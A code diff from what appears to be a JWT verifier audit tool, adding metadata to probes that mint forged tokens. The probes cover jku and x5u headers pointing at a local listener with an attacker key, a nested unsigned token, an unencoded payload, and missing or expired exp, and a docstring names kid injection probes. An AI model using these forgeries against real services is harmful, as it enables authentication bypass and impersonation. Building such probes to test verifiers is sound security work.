@@ -156,8 +156,10 @@ class HeaderKeyAttacks(Minter):
         c = self.claims()
         h1 = {"alg": "RS256", "typ": "JWT", "kid": "ws-audit-jku", "jku": f"{base_url}/jwks.json"}
         h2 = {"alg": "RS256", "typ": "JWT", "x5u": f"{base_url}/cert.pem"}
-        return [Forged("jku → local listener", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256, attacker key"),
-                Forged("x5u → local listener", sign_with(h2, c, self.attacker.rsa), h2, c, "RS256, attacker key")]
+        return [Forged("jku → local listener", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256, attacker key",
+                       meta={"fetch_path": "/jwks.json"}),
+                Forged("x5u → local listener", sign_with(h2, c, self.attacker.rsa), h2, c, "RS256, attacker key",
+                       meta={"fetch_path": "/cert.pem"})]
 
     def kid_injection(self) -> list[Forged]:
         """Probe 12: ``kid`` path traversal, SQL and command injection, unknown kid."""
@@ -197,7 +199,7 @@ class HeaderKeyAttacks(Minter):
                    f"{self.alg} with the configured key; crit lists an extension nobody implements"),
             Forged("cty: JWT, nested unsigned token for the victim", sign_segments(nested, b64url(inner.encode()), key),
                    nested, {"nested (alg none)": inner_claims}, f"{self.alg} with the configured key over a nested "
-                   "unsigned JWT"),
+                   "unsigned JWT", meta={"nested": True}),
             Forged("b64: false, unencoded payload", sign_segments(unencoded, json_bytes(plain).decode(), key),
                    unencoded, plain, f"{self.alg} with the configured key over the raw JSON payload (RFC 7797)"),
         ]
@@ -228,7 +230,8 @@ class ClaimAttacks(Minter):
         out = [self.make("exp past (beyond leeway)", self.claims(iat=now - lw - 600, exp=now - lw - 120))]
         if lw >= 2:
             out.append(self.make("exp past within leeway", self.claims(exp=now - lw // 2), expect="accept"))
-        out.append(self.make("exp missing", self.claims(exp=DROP)))
+        # accepting a token without exp is a policy question, not a forgery (probe 13 reads the meta)
+        out.append(self.make("exp missing", self.claims(exp=DROP), meta={"policy": "require_exp"}))
         out.append(self.make("nbf in the future", self.claims(nbf=now + lw + 600)))
         return out
 
